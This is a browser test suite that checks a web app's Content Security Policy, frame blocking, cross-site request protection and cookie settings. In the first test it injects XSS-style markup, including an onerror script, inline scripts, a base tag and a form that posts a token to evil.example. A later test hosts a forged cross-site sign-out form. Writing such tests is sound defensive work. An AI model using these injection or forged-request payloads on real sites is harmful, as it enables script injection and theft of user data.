// Rules that browsers enforce because of our headers. server/tests/it/headers.rs tests the headers themselves.

import { MEMBER } from '../support/demo.ts';
import { expect, openPage, test } from '../support/fixtures.ts';
import { failedToLoad } from '../support/requests.ts';

/** The browser's messages about actions that it refused. */
const REFUSALS = /CSP violation|Content Security Policy|Refused to|404 \(Not Found\)/;

test('markup that an attacker injects runs nothing, styles nothing and sends nothing', async ({
  page,
  pageErrors,
  signIn,
}) => {
  pageErrors.allow(REFUSALS);
  await signIn(MEMBER);
  await openPage(page, '/developer-zone');
  await page.evaluate(() => {
    const main = document.querySelector('main')!;
    main.insertAdjacentHTML(
      'beforeend',
      `<style>main { display: none }</style>
       <p id="styled" style="position: fixed">text</p>
       <img src="x" onerror="document.title = 'run'">
       <iframe srcdoc="<script>top.document.title = 'run'</script>"></iframe>
       <base href="https://evil.example/">
       <form id="stolen" method="post" action="https://evil.example/"><input name="token" value="x"></form>`,
    );
    const script = document.createElement('script');
    script.textContent = "document.title = 'run'";
    main.append(script);
  });
  const expectViolation = (directive: string) =>
    expect
      .poll(() => pageErrors.seen, directive)
      .toContainEqual(expect.stringContaining(`CSP violation: ${directive} by`));
  for (const directive of ['style-src-elem', 'style-src-attr', 'script-src-elem', 'script-src-attr', 'base-uri']) {
    await expectViolation(directive);
  }
  await expect(page.getByRole('main')).toBeVisible();
  await expect(page.locator('#styled')).toHaveCSS('position', 'static');
  await expect(page).not.toHaveTitle('run');
  expect(await page.evaluate(() => document.baseURI)).not.toContain('evil.example');
  // Last, because Playwright waits for the navigation that a form begins, and this one never begins.
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#stolen')!.submit());
  await expectViolation('form-action');
  expect(new URL(page.url()).pathname).toBe('/developer-zone');
});

test('no page can be shown in another page’s frame', async ({ page, pageErrors, server, signIn }) => {
  pageErrors.allow(REFUSALS);
  await signIn(MEMBER);
  for (const path of ['/sign-in', '/reset-password', '/events', '/developer-zone', '/docs', '/no-such-page', '/healthz']) {
    await page.goto('about:blank');
    await page.setContent(`<iframe src="${server.url}${path}"></iframe>`);
    const frame = page.frames()[1];
    await expect.poll(() => frame?.url(), path).toBe('chrome-error://chromewebdata/');
  }
});

test('a form on another site that a reader submits has no effect', async ({
  context,
  signIn,
  server,
  pageErrors,
}) => {
  pageErrors.allow(/^request outside the origin: http:\/\/evil\.example/, failedToLoad(403));
  await signIn(MEMBER);
  const page = await context.newPage();
  await page.route('http://evil.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!DOCTYPE html><title>A gift</title><link rel="icon" href="data:,">
        <form method="post" action="${server.url}/api/dashboard/sign-out"><button>Take it</button></form>`,
    }),
  );
  await page.goto('http://evil.example/');
  await page.getByRole('button', { name: 'Take it' }).click();
  await expect(page).toHaveURL(/sign-out$/);
  await page.goto('/events');
  await expect(page, 'still signed in').toHaveURL('/events');
});

test('scripts can read no cookie but the time zone’s', async ({ page, context, signIn }) => {
  await signIn(MEMBER);
  await openPage(page, '/events');
  expect(await context.cookies()).not.toEqual([]);
  expect(await page.evaluate(() => document.cookie)).toBe('developer-zone-time-zone=Europe/London');
});
